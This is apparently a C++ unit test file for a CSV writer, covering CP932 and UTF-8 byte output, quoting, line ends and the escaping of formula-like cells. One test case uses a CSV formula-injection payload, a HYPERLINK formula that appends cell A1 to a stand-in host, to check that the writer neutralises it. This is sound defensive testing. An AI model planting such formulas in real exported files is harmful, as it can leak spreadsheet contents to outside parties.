// The CSV writer on rows and bytes, without a window: the encodings, the
// quoting, the formula prefix, the CP932 fallback and the line ends.
#include "output/CsvWriter.h"
#include "core/Cp932.h"
#include <QFile>
#include <QProcess>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <gtest/gtest.h>

using namespace morvane;
using namespace morvane::output;

namespace {

class CsvWriter : public ::testing::Test {
protected:
    QByteArray written(const CsvTable& table, CsvCharset charset)
    {
        writeCsvFile(path(), table, charset);
        QFile f(path());
        return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray("<missing>");
    }
    QString path() const { return dir.filePath("T.CSV"); }
    QTemporaryDir dir;
};

const QByteArray kBom("\xEF\xBB\xBF");

} // namespace

TEST_F(CsvWriter, ExactBytesInEachEncoding)
{
    const CsvTable table{{"ID", "名前"}, {{"1", "部門"}, {"2", ""}}};
    // 名前 and 部門 in CP932, no byte-order mark.
    EXPECT_EQ(written(table, CsvCharset::Cp932),
              QByteArray("\"ID\",\"\x96\xBC\x91O\",\r\n\"1\",\"\x95\x94\x96\xE5\",\r\n\"2\",\"\",\r\n"));
    const QByteArray utf8 =
        kBom + QStringLiteral("\"ID\",\"名前\",\r\n\"1\",\"部門\",\r\n\"2\",\"\",\r\n").toUtf8();
    EXPECT_EQ(written(table, CsvCharset::Utf8), utf8);
    // Automatic is Unicode here, which the Linux spreadsheets open by double-click.
    EXPECT_EQ(written(table, CsvCharset::Automatic), utf8);
}

TEST_F(CsvWriter, ItemsAreQuotedWholeAndOnlyLinesEndInCrLf)
{
    // 2,000 full-width characters are 4,000 bytes in CP932: far past any line buffer.
    const QString longText = QString(1999, QChar(0x8868)) + "終";
    const CsvTable table{{"A"}, {{"部門\"名\", 略称\r\n可"}, {"a,b"}, {"x\ny"}, {longText}}};
    EXPECT_EQ(cp932::decode(written(table, CsvCharset::Cp932)),
              "\"A\",\r\n\"部門\"\"名\"\", 略称\r\n可\",\r\n\"a,b\",\r\n\"x\ny\",\r\n\"" + longText
                  + "\",\r\n");
}

TEST_F(CsvWriter, Cp932FallsBackToUtf8WhenATextDoesNotFit)
{
    const QString foreign = QStringLiteral("한국 𠮷野家");
    // In a value or in the header alike, the whole file turns Unicode.
    for (const CsvTable& table : {CsvTable{{"A"}, {{"部門"}, {foreign}}}, CsvTable{{foreign}, {{"部門"}}}}) {
        const QByteArray raw = written(table, CsvCharset::Cp932);
        ASSERT_TRUE(raw.startsWith(kBom));
        const QString text = QString::fromUtf8(raw.mid(3));
        EXPECT_TRUE(text.contains("\"" + foreign + "\",\r\n")) << text.toStdString();
        EXPECT_TRUE(text.contains("\"部門\",\r\n")) << text.toStdString();
    }
    // The Windows repertoire fits CP932: ～ － ① 髙.
    EXPECT_EQ(written({{"A"}, {{"～－①髙"}}}, CsvCharset::Cp932),
              QByteArray("\"A\",\r\n\"\x81`\x81|\x87@\xFB\xFC\",\r\n"));
}

TEST_F(CsvWriter, FormulaLikeTextsAreWrittenAsText)
{
    const struct {
        QString item, written;
    } cases[] = {
        {"=HYPERLINK(\"http://x.example/\"&A1,\"click\")", "'=HYPERLINK(\"http://x.example/\"&A1,\"click\")"},
        {"+1", "'+1"},
        {"-A1", "'-A1"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"-2", "-2"},
        {"-1.5", "-1.5"},
        {"部門=名", "部門=名"},
        {"", ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(csvCellText(c.item), c.written) << c.item.toStdString();
    // The apostrophe comes first, then the quotes are doubled.
    EXPECT_EQ(csvItems({cases[0].item, "-2"}),
              "\"'=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")\",\"-2\",");

    // gnumeric takes a leading '=' as a formula unless the apostrophe marks a text.
    written({{"A"}, {{cases[0].item}}}, CsvCharset::Utf8);
    const QString gnumeric = QStandardPaths::findExecutable("ssconvert");
    if (gnumeric.isEmpty())
        GTEST_SKIP() << "ssconvert (gnumeric) is not installed";
    QProcess convert;
    convert.setProcessChannelMode(QProcess::MergedChannels);
    QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
    env.insert("HOME", dir.path());
    convert.setProcessEnvironment(env);
    const QString values = dir.filePath("values.txt");
    convert.start(gnumeric, {"--export-type=Gnumeric_stf:stf_csv", path(), values});
    ASSERT_TRUE(convert.waitForFinished(60000));
    QFile f(values);
    ASSERT_TRUE(f.open(QIODevice::ReadOnly)) << convert.readAll().toStdString();
    const QString shown = QString::fromUtf8(f.readAll());
    EXPECT_TRUE(shown.contains("=HYPERLINK(\"\"http://x.example/\"\"&A1,\"\"click\"\")"))
        << shown.toStdString();
    EXPECT_FALSE(shown.contains(QRegularExpression(",click(,|\\s|$)"))) << shown.toStdString();
}
